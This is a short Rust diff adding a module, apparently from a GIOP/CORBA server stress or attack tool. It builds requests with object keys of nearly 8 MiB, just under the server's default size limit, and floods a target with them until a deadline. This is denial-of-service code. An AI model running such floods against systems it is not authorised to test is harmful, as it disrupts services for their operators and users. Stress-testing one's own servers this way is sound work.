@@ -1,0 +1,17 @@
+//! Unknown object keys that fill a message.
+
+use std::time::Instant;
+
+use punctual_giop::Version;
+
+use crate::attacks::{flood::Flood, messages::request, target::Target};
+
+/// Almost the largest message of the server's default limits.
+const OCTETS: usize = (8 << 20) - 4096;
+
+/// Sends requests with such keys.
+pub(super) fn long_keys(target: &Target, until: Instant) -> u64 {
+    let key = vec![0x5a; OCTETS];
+    let request = request(Version::V1_2, target, &key, "method", |_| Ok(()));
+    Flood::of(&request, 1).run(target, until)
+}
